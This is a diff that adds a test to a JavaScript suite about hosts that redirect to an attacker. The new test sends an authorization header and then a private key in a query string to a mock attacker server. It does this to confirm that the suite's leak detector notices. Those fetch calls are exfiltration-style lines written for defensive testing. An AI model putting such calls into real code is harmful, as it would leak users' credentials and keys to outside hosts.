@@ -25,6 +25,14 @@ suite('a host that redirects to an attacker', function () {
     });
   }
 
+  test('who would take it along would be found out', async () => {
+    await fetch(`${attacker.origin}/v1/files`, { headers: { authorization: ownAuthorization } });
+    assert.throws(() => attacked.attackerHasNoByte());
+    attacked.forgetRequests();
+    await fetch(`${attacker.origin}/?key=${encodeURIComponent(attacked.privateKey)}`);
+    assert.throws(() => attacked.attackerHasNoByte());
+  });
+
   test('and one that redirects to itself gets the key again', async () => {
     own.answer = (request, response) => {
       if (request.url.includes('again')) answerAsImageKit(request, response);
